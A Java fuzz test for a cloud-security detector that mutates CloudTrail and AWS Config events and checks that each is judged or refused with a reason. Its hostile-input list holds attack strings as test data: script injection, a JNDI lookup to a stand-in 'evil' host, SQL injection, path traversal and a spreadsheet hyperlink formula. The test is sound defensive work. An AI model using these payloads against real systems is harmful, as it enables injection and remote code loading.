package io.portcullis.fuzz;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonGenerator;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.portcullis.change.CloudTrailEventReader;
import io.portcullis.change.OriginClassifier;
import io.portcullis.detection.DetectChange;
import io.portcullis.detection.DetectionResult;
import io.portcullis.detection.PolicyEngine;
import io.portcullis.exception.Exceptions;
import io.portcullis.incident.RemediationMode;
import io.portcullis.json.Json;
import io.portcullis.protocol.Accounts;
import io.portcullis.protocol.Protocol;
import io.portcullis.remediation.PolicyVersions;
import io.portcullis.remediation.ResourceTags;
import io.portcullis.testing.Cases;
import io.portcullis.testing.Fixtures;
import io.portcullis.testing.InMemoryIncidentStore;
import io.portcullis.testing.InMemorySecurityGroups;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and malformed input, property-based: every sample in {@code events/} (CloudTrail, AWS Config and the
 * deliberately broken ones) mutated one to three times — fields deleted or renamed, values of another type, hostile
 * strings (Slack mrkdwn, HTML, control and bidirectional characters), huge numbers and strings, deep nesting,
 * duplicated keys, a whole other root, events over EventBridge's 256 KiB, truncated, flipped and invalid UTF-8 bytes —
 * and fed through the detector's use case with live tags and policy versions that are hostile too.
 *
 * <p>The property: nothing is thrown; every input is either evaluated (incident, compliant, ignored, duplicate,
 * attached) or refused, and a refusal names the event and says what is wrong through the reader's own field checks,
 * never through the catch-all that turns an unexpected exception into a refusal. The handler's answer (its JSON
 * summary) can always be written.
 *
 * <p>The test command runs {@value #TEST_COMMAND_TRIES} inputs; the nightly profile runs the tagged property with
 * {@code portcullis.fuzz.tries} inputs ({@code ./portcullis fuzz [N]}, i.e. {@code ./mvnw -Pnightly -pl functions/core
 * verify -Dportcullis.fuzz.tries=N}, 100,000 by default). Inputs are drawn from a seed ({@link Cases}): a failure
 * names its seed, its case and its mutation, and {@code -Dportcullis.seed=S -Dportcullis.case=I} replays exactly
 * that input. After each property the outcomes, refusal reasons and mutations it met are printed, counted.
 */
class EventMutationFuzzTest {

    static final int TEST_COMMAND_TRIES = 4000;

    /** The nightly profile's count (the surefire configuration passes it on); 100,000 as there when run alone. */
    static final int NIGHTLY_TRIES = Integer.getInteger("portcullis.fuzz.tries", 100_000);

    enum Kind {
        DELETE, RENAME_KEY, RETYPE, HOSTILE_STRING, UNICODE_INSIDE, HUGE_NUMBER, EMPTY_CONTAINER, DEEP_NESTING,
        DUPLICATE_KEY, OTHER_ROOT, OVERSIZE, TRUNCATE, FLIP_BYTE, INVALID_UTF8
    }

    /** One mutation: what, where in the event ({@code where}, taken modulo the places), and with which payload. */
    record Step(Kind kind, int where, int what) {
        @Override
        public String toString() {
            return kind + "@" + where + "/" + what;
        }
    }

    /**
     * A mutated sample. {@code seeded}: the original sample was judged first, so the mutant meets an incident that
     * already exists (the duplicate and attach paths).
     */
    record Mutant(int sample, List<Step> steps, boolean seeded, int tags, int document) {
        @Override
        public String toString() {
            return SAMPLES.get(sample).name + " " + steps + (seeded ? " after the original" : "") + " tags#" + tags
                    + " policy#" + document;
        }
    }

    record Sample(String name, byte[] bytes, JsonNode tree) {
    }

    static final List<Sample> SAMPLES = samples();

    static final JsonNodeFactory F = JsonNodeFactory.instance;

    /** Strings that mean something to Slack, HTML, terminals, spreadsheets, parsers or people reading them. */
    static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>", "<!channel> <!here> <@U0123ABCD> <#C0123|general>", "<http://evil.example|click me>",
            "*bold* _italic_ ~strike~ `code` ```block```", "a\nforged line\r\n*Approved by* <@U0BOSS>",
            "\u0000\u0001\u0007\u001b[31mred\u001b[0m\u007f", "\u202Eevil\u202C \u2066isolate\u2069 \u200F", "\uFEFFbom",
            "\uD83D\uDD25\uD83D\uDC80 e\u0301 \u0130 \u00DF", "\u2028\u2029", "=HYPERLINK(\"http://evil\",\"x\")", "+1+1",
            "-1", "@SUM(A1)", "'; DROP TABLE incidents; --", "${jndi:ldap://evil/a}", "%s%n%x", "..\\..\\etc\\passwd",
            "0.0.0.0/0", "::/0", "0.0.0.0/33", "999.1.1.1/8", "-1", "65536", "22", "tcp", "-1", "icmp", "all", "",
            " ", "null", "true", "1e309", "{\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"*\"}]}",
            "%7B%22Statement%22%3A%5B%7B%22Effect%22%3A%22Allow%22%7D%5D%7D", "arn:aws:iam::aws:policy/AdministratorAccess",
            "arn:aws:iam::123456789012:role/portcullis-remediator", "2026-13-45T25:61:61Z", "+999999999-12-31T23:59:59Z",
            "x".repeat(70_000), "<".repeat(5_000));

    static final List<Map<String, String>> TAGS = List.of(Map.of(),
            Map.of("environment", "production"), Map.of("environment", "<script>\n"),
            Map.of("environment", "x".repeat(10_000)),
            Map.of("portcullis:exception:sg-ingress-sensitive-port-public",
                    "owner=<@U0123>; reason=<!channel>; expires=" + LocalDate.now(ZoneOffset.UTC).plusDays(10)),
            Map.of("portcullis:exception:s3-public-policy", "owner=a; reason=b; expires=not-a-date"),
            Map.of("portcullis:exception:s3-public-acl", "owner=; reason=; expires=9999-99-99"),
            Map.of("portcullis:exception:", "=;=;=", "portcullis:exception:*", "owner=x;reason=y;expires=2099-01-01"),
            Map.of("portcullis:exception:iam-admin-grant", "owner=me; reason=\u0000\u202E; expires="
                    + LocalDate.now(ZoneOffset.UTC).plusDays(3)));

    static final List<Optional<String>> DOCUMENTS = List.of(Optional.empty(),
            Optional.of("{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"),
            Optional.of("%7B%22Version%22%3A%222012-10-17%22%2C%22Statement%22%3A%5B%5D%7D"), Optional.of("{"),
            Optional.of("null"), Optional.of("[]"), Optional.of("%ZZ"), Optional.of("{\"Statement\":\"*\"}"),
            Optional.of("{\"Statement\":[{\"Effect\":\"Allow\",\"NotAction\":[],\"Resource\":{\"a\":1}}]}"),
            Optional.of("x".repeat(100_000)));

    final PolicyEngine engine = new PolicyEngine(io.portcullis.rule.RuleSet.defaults(), Protocol.defaults(),
            Accounts.defaults(), Exceptions.defaults());

    static Stream<Arguments> mutants(TestInfo property) {
        return Cases.of(property, TEST_COMMAND_TRIES, List.of(), EventMutationFuzzTest::mutant);
    }

    @Cases.Property
    @MethodSource("mutants")
    void everyMutatedSampleIsEvaluatedOrRefusedWithAReason(Mutant mutant) {
        check(mutant);
    }

    static Stream<Arguments> nightlyMutants(TestInfo property) {
        return Cases.of(property, NIGHTLY_TRIES, List.of(), EventMutationFuzzTest::mutant);
    }

    /** The same property, {@code portcullis.fuzz.tries} times: the nightly profile's run. */
    @Cases.Property
    @MethodSource("nightlyMutants")
    @Tag("nightly")
    void nightlyEveryMutatedSampleIsEvaluatedOrRefusedWithAReason(Mutant mutant) {
        check(mutant);
    }

    /** An event as large as EventBridge delivers is judged as the original was; one byte more is refused, by size. */
    @Test
    void anEventOverEventBridgesLimitIsRefusedByItsSizeAndOneAtTheLimitIsJudged() {
        for (Sample sample : SAMPLES) {
            if (sample.tree() == null || !sample.tree().path("detail").isObject()) {
                continue;
            }
            String original = detector(0, 0).handle(sample.bytes()).outcome();
            byte[] atLimit = padded(sample.tree(), CloudTrailEventReader.MAX_EVENT_BYTES);
            byte[] over = padded(sample.tree(), CloudTrailEventReader.MAX_EVENT_BYTES + 1);

            assertThat(atLimit).hasSize(CloudTrailEventReader.MAX_EVENT_BYTES);
            assertThat(detector(0, 0).handle(atLimit).outcome()).as(sample.name()).isEqualTo(original);
            DetectionResult refused = detector(0, 0).handle(over);
            assertThat(refused).as(sample.name()).isInstanceOfSatisfying(DetectionResult.Refused.class, r ->
                    assertThat(r.reason()).contains("larger than " + CloudTrailEventReader.MAX_EVENT_BYTES + " bytes"));
        }
    }

    // --- the property ---

    void check(Mutant mutant) {
        byte[] input = mutate(mutant);
        DetectChange detector = detector(mutant.tags(), mutant.document());
        if (mutant.seeded() && SAMPLES.get(mutant.sample()).tree() != null) {
            detector.handle(SAMPLES.get(mutant.sample()).bytes());
        }

        DetectionResult result = detector.handle(input);

        assertThat(result).isNotNull();
        if (result instanceof DetectionResult.Refused r) {
            assertThat(r.eventRef()).as("a refusal names the event").isNotBlank();
            assertThat(r.reason()).as("a refusal says what is wrong").isNotBlank()
                    .as("refused by a field check, not by an unexpected exception")
                    .doesNotStartWith("the event could not be read");
            count("refused because", reasonClass(r.reason()));
        }
        // The handler's answer and log line.
        Map<String, Object> summary = DetectChange.describe(result);
        assertThat(summary).containsKey("outcome");
        try {
            assertThat(Json.mapper().writeValueAsString(summary)).isNotBlank();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        count("outcome", result instanceof DetectionResult.Refused ? "refused" : "evaluated");
        count("evaluated as", result.outcome());
        mutant.steps().forEach(s -> count("mutation", s.kind().toString()));
    }

    /** What the inputs met, label by label, so a run shows which paths it reached and how often. */
    static final Map<String, Map<String, Integer>> STATISTICS = new ConcurrentHashMap<>();

    static void count(String label, String value) {
        STATISTICS.computeIfAbsent(label, l -> new ConcurrentHashMap<>()).merge(value, 1, Integer::sum);
    }

    @AfterAll
    static void printStatistics() {
        if (!STATISTICS.isEmpty()) {
            System.out.println("[EventMutationFuzzTest] seed=" + Cases.SEED + " (-Dportcullis.seed=" + Cases.SEED
                    + " draws the same inputs again)");
        }
        new TreeMap<>(STATISTICS).forEach((label, counts) -> {
            int total = counts.values().stream().mapToInt(Integer::intValue).sum();
            StringBuilder out = new StringBuilder("[EventMutationFuzzTest] (" + total + ") " + label + "\n");
            counts.entrySet().stream().sorted(Map.Entry.<String, Integer>comparingByValue().reversed())
                    .forEach(e -> out.append(String.format("    %-92s | %6d | %5.2f %%%n", e.getKey(), e.getValue(),
                            100.0 * e.getValue() / total)));
            System.out.print(out);
        });
        STATISTICS.clear();
    }

    /** The reason with its numbers, ids and quoted values taken out, so alike refusals count together. */
    static String reasonClass(String reason) {
        String r = reason.replaceAll("'[^']*'", "'…'").replaceAll("\\[\\d+]", "[i]").replaceAll("\\d+", "N");
        return r.length() > 90 ? r.substring(0, 90) + "…" : r;
    }

    DetectChange detector(int tags, int document) {
        Map<String, String> liveTags = TAGS.get(Math.floorMod(tags, TAGS.size()));
        Optional<String> doc = DOCUMENTS.get(Math.floorMod(document, DOCUMENTS.size()));
        ResourceTags resourceTags = resource -> liveTags;
        PolicyVersions versions = (arn, version) -> doc;
        return new DetectChange(new CloudTrailEventReader(Json.mapper(), new OriginClassifier(
                Set.of("arn:aws:iam::123456789012:role/terraform"))), engine, new InMemorySecurityGroups(), resourceTags,
                new InMemoryIncidentStore(), (incident, input) -> true, Clock.systemUTC(), RemediationMode.ENFORCE,
                Set.of("arn:aws:iam::123456789012:role/portcullis-remediator"))
                .withPolicyVersions(versions).withJurisdiction("123456789012", "us-east-1");
    }

    /** Mostly mutations that keep the event JSON, so most inputs get past the parser and into the reader's checks. */
    static final List<Kind> WEIGHTED_KINDS = Arrays.stream(Kind.values()).flatMap(k -> Collections.nCopies(switch (k) {
        case TRUNCATE, FLIP_BYTE, INVALID_UTF8, OTHER_ROOT, OVERSIZE, DEEP_NESTING -> 1;
        default -> 4;
    }, k).stream()).toList();

    /** Any sample, one to three mutations anywhere in it, a third of them after the original; any tags and policy. */
    static Arguments mutant(SplittableRandom r) {
        return Arguments.of(new Mutant(r.nextInt(SAMPLES.size()), Cases.listOf(r, 1, 3, () -> new Step(
                Cases.oneOf(r, WEIGHTED_KINDS), Cases.nonNegative(r), Cases.nonNegative(r))), r.nextInt(3) == 2,
                r.nextInt(TAGS.size()), r.nextInt(DOCUMENTS.size())));
    }

    // --- mutations ---

    /** A place in the tree: a field of an object or an element of an array. */
    record Slot(JsonNode parent, String field, int index) {
        JsonNode value() {
            return field != null ? parent.get(field) : parent.get(index);
        }

        void set(JsonNode value) {
            if (field != null) {
                ((ObjectNode) parent).set(field, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }
    }

    static byte[] mutate(Mutant mutant) {
        Sample sample = SAMPLES.get(mutant.sample());
        List<Step> byteSteps = new ArrayList<>();
        Duplicate duplicate = null;
        byte[] bytes;
        if (sample.tree() == null) {
            // Not JSON to begin with: only its bytes can be mutated.
            byteSteps.addAll(mutant.steps());
            bytes = sample.bytes();
        } else {
            JsonNode root = sample.tree().deepCopy();
            for (Step step : mutant.steps()) {
                switch (step.kind()) {
                    case TRUNCATE, FLIP_BYTE, INVALID_UTF8 -> byteSteps.add(step);
                    case OTHER_ROOT -> root = otherRoot(root, step.what());
                    case DUPLICATE_KEY -> duplicate = duplicateIn(root, step);
                    default -> treeStep(root, step);
                }
            }
            bytes = write(root, duplicate);
        }
        for (Step step : byteSteps) {
            bytes = byteStep(bytes, step);
        }
        return bytes;
    }

    static void treeStep(JsonNode root, Step step) {
        List<Slot> slots = new ArrayList<>();
        collect(root, slots);
        if (slots.isEmpty()) {
            return;
        }
        Slot slot = slots.get(step.where() % slots.size());
        int what = step.what();
        switch (step.kind()) {
            case DELETE -> {
                if (slot.field() != null) {
                    ((ObjectNode) slot.parent()).remove(slot.field());
                } else {
                    ((ArrayNode) slot.parent()).remove(slot.index());
                }
            }
            case RENAME_KEY -> {
                if (slot.field() != null) {
                    String renamed = List.of(slot.field().toLowerCase(), slot.field().toUpperCase(), " " + slot.field(),
                            slot.field() + "\u0000", slot.field() + "\u200B", "").get(what % 6);
                    JsonNode value = slot.value();
                    ((ObjectNode) slot.parent()).remove(slot.field());
                    ((ObjectNode) slot.parent()).set(renamed, value);
                }
            }
            case RETYPE -> slot.set(retype(slot.value(), what));
            case HOSTILE_STRING -> slot.set(F.textNode(HOSTILE.get(what % HOSTILE.size())));
            case UNICODE_INSIDE -> {
                JsonNode v = slot.value();
                String text = v.isTextual() ? v.asText() : json(v);
                String inserted = List.of("\u0000", "\u001b[2J", "\u202E", "\uFEFF", "\u200B", "\n", "\t", "\uD83D\uDE00",
                        "e\u0301", "\u2028", "<", "&amp;", "`", "*").get(what % 14);
                int at = text.isEmpty() ? 0 : (what / 14) % (text.length() + 1);
                if (at > 0 && at < text.length() && Character.isLowSurrogate(text.charAt(at))) {
                    at--;
                }
                slot.set(F.textNode(text.substring(0, at) + inserted + text.substring(at)));
            }
            case HUGE_NUMBER -> slot.set(List.<JsonNode>of(F.numberNode(new BigInteger("9".repeat(400))),
                    F.numberNode(Long.MIN_VALUE), F.numberNode(-2147483649L), F.numberNode(2147483648L),
                    F.numberNode(1e308), F.numberNode(-0.0), F.numberNode(new BigDecimal("1e-400")),
                    F.numberNode(65536), F.numberNode(-1), F.numberNode(22.5)).get(what % 10));
            case EMPTY_CONTAINER -> slot.set(what % 2 == 0 ? F.objectNode() : F.arrayNode());
            case DEEP_NESTING -> {
                int depth = List.of(30, 200, 900, 995, 1001, 1500, 20_000).get(what % 7);
                // Deeper than Jackson's writer allows: written as raw text (see write).
                slot.set(depth <= 900 ? nested(depth, what % 2 == 0) : F.textNode(RAW_NESTING + depth));
            }
            case OVERSIZE -> {
                int size = List.of(CloudTrailEventReader.MAX_EVENT_BYTES - 1024, CloudTrailEventReader.MAX_EVENT_BYTES,
                        CloudTrailEventReader.MAX_EVENT_BYTES + 1, 1024 * 1024).get(what % 4);
                slot.set(F.textNode("A".repeat(size)));
            }
            default -> throw new IllegalStateException(step.kind() + " is not a tree mutation");
        }
    }

    static JsonNode retype(JsonNode v, int what) {
        return switch (what % 8) {
            case 0 -> F.nullNode();
            case 1 -> v.isTextual() ? numberOf(v.asText()) : F.textNode(v.isValueNode() ? v.asText() : json(v));
            case 2 -> F.arrayNode().add(v.deepCopy());
            case 3 -> F.objectNode().set("items", F.arrayNode().add(v.deepCopy()));
            case 4 -> F.booleanNode(what % 16 < 8);
            case 5 -> v.isNumber() ? F.numberNode(v.asDouble() + 0.5) : F.numberNode(v.size());
            case 6 -> F.objectNode().set("value", v.deepCopy());
            default -> F.textNode(json(v));
        };
    }

    static JsonNode numberOf(String text) {
        try {
            return F.numberNode(new BigDecimal(text.trim()));
        } catch (NumberFormatException e) {
            return F.numberNode(text.length());
        }
    }

    static final String RAW_NESTING = "\u0000raw nesting ";

    static JsonNode nested(int depth, boolean arrays) {
        JsonNode node = F.textNode("bottom");
        for (int i = 0; i < depth; i++) {
            node = arrays ? F.arrayNode().add(node) : F.objectNode().set("n", node);
        }
        return node;
    }

    static JsonNode otherRoot(JsonNode root, int what) {
        return List.<JsonNode>of(F.arrayNode().add(root), F.textNode(json(root)), F.numberNode(42), F.nullNode(),
                F.objectNode(), F.booleanNode(false), F.objectNode().set("detail", root)).get(what % 7);
    }

    /** A key written twice in one object: a different value first or last (JSON leaves which one counts open). */
    record Duplicate(ObjectNode object, String field, JsonNode value, boolean first) {
    }

    static Duplicate duplicateIn(JsonNode root, Step step) {
        List<Slot> slots = new ArrayList<>();
        collect(root, slots);
        List<Slot> fields = slots.stream().filter(s -> s.field() != null).toList();
        if (fields.isEmpty()) {
            return null;
        }
        Slot slot = fields.get(step.where() % fields.size());
        JsonNode other = step.what() % 3 == 0 ? F.textNode(HOSTILE.get(step.what() % HOSTILE.size()))
                : retype(slot.value(), step.what());
        return new Duplicate((ObjectNode) slot.parent(), slot.field(), other, step.what() % 2 == 0);
    }

    static byte[] byteStep(byte[] bytes, Step step) {
        if (bytes.length == 0) {
            return bytes;
        }
        int at = step.where() % bytes.length;
        return switch (step.kind()) {
            case TRUNCATE -> Arrays.copyOf(bytes, at);
            case FLIP_BYTE -> {
                byte[] out = bytes.clone();
                out[at] = (byte) (step.what() % 256);
                yield out;
            }
            default -> {
                byte[] bad = List.of(new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xFF},
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {0},
                        new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, new byte[] {(byte) 0xE2, (byte) 0x82})
                        .get(step.what() % 6);
                byte[] out = new byte[bytes.length + bad.length];
                System.arraycopy(bytes, 0, out, 0, at);
                System.arraycopy(bad, 0, out, at, bad.length);
                System.arraycopy(bytes, at, out, at + bad.length, bytes.length - at);
                yield out;
            }
        };
    }

    private static void collect(JsonNode node, List<Slot> out) {
        if (node instanceof ObjectNode o) {
            List<String> names = new ArrayList<>();
            o.fieldNames().forEachRemaining(names::add);
            for (String name : names) {
                out.add(new Slot(o, name, -1));
                collect(o.get(name), out);
            }
        } else if (node instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                out.add(new Slot(a, null, i));
                collect(a.get(i), out);
            }
        }
    }

    /** A JSON writer without a nesting limit: several deep-nesting mutations can land inside one another. */
    static final com.fasterxml.jackson.databind.ObjectMapper WRITER = new com.fasterxml.jackson.databind.ObjectMapper(
            com.fasterxml.jackson.core.JsonFactory.builder().streamWriteConstraints(
                    com.fasterxml.jackson.core.StreamWriteConstraints.builder().maxNestingDepth(Integer.MAX_VALUE).build())
                    .build());

    /** The node as JSON text, however deep (JsonNode.toString stops at Jackson's default depth). */
    static String json(JsonNode node) {
        return new String(write(node, null), StandardCharsets.UTF_8);
    }

    /** The tree as JSON bytes, with the duplicated key written twice. Deep trees are written without recursion limits. */
    static byte[] write(JsonNode root, Duplicate duplicate) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (JsonGenerator g = WRITER.getFactory().createGenerator(out)) {
            write(g, root, duplicate);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static void write(JsonGenerator g, JsonNode node, Duplicate duplicate) throws IOException {
        if (node instanceof ObjectNode o) {
            g.writeStartObject();
            for (var it = o.fields(); it.hasNext(); ) {
                var e = it.next();
                boolean twice = duplicate != null && duplicate.object() == o && duplicate.field().equals(e.getKey());
                if (twice && duplicate.first()) {
                    g.writeFieldName(e.getKey());
                    write(g, duplicate.value(), null);
                }
                g.writeFieldName(e.getKey());
                write(g, e.getValue(), duplicate);
                if (twice && !duplicate.first()) {
                    g.writeFieldName(e.getKey());
                    write(g, duplicate.value(), null);
                }
            }
            g.writeEndObject();
        } else if (node instanceof ArrayNode a) {
            g.writeStartArray();
            for (JsonNode child : a) {
                write(g, child, duplicate);
            }
            g.writeEndArray();
        } else if (node.isTextual() && node.asText().startsWith(RAW_NESTING)) {
            String digits = node.asText().substring(RAW_NESTING.length()).replaceAll("\\D", "");
            int depth = digits.isEmpty() || digits.length() > 5 ? 1001 : Integer.parseInt(digits);
            g.writeRawValue("[".repeat(depth) + "]".repeat(depth));
        } else {
            g.writeTree(node);
        }
    }

    /** The event with {@code detail.portcullisPadding} sized so the whole event is exactly {@code size} bytes. */
    static byte[] padded(JsonNode event, int size) {
        ObjectNode copy = event.deepCopy();
        ((ObjectNode) copy.path("detail")).put("portcullisPadding", "");
        int base = write(copy, null).length;
        ((ObjectNode) copy.path("detail")).put("portcullisPadding", "p".repeat(size - base));
        return write(copy, null);
    }

    static List<Sample> samples() {
        try (Stream<Path> files = Files.walk(Fixtures.events())) {
            List<Sample> out = new ArrayList<>();
            for (Path f : files.filter(p -> p.toString().endsWith(".json")).sorted().toList()) {
                byte[] bytes = Files.readAllBytes(f);
                JsonNode tree;
                try {
                    tree = Json.mapper().readTree(bytes);
                } catch (IOException e) {
                    tree = null;
                }
                out.add(new Sample(Fixtures.events().relativize(f).toString(), bytes, tree));
            }
            assertThat(out.stream().map(Sample::name).collect(Collectors.joining(" ")))
                    .contains("cloudtrail/").contains("config/").contains("invalid/");
            return out;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
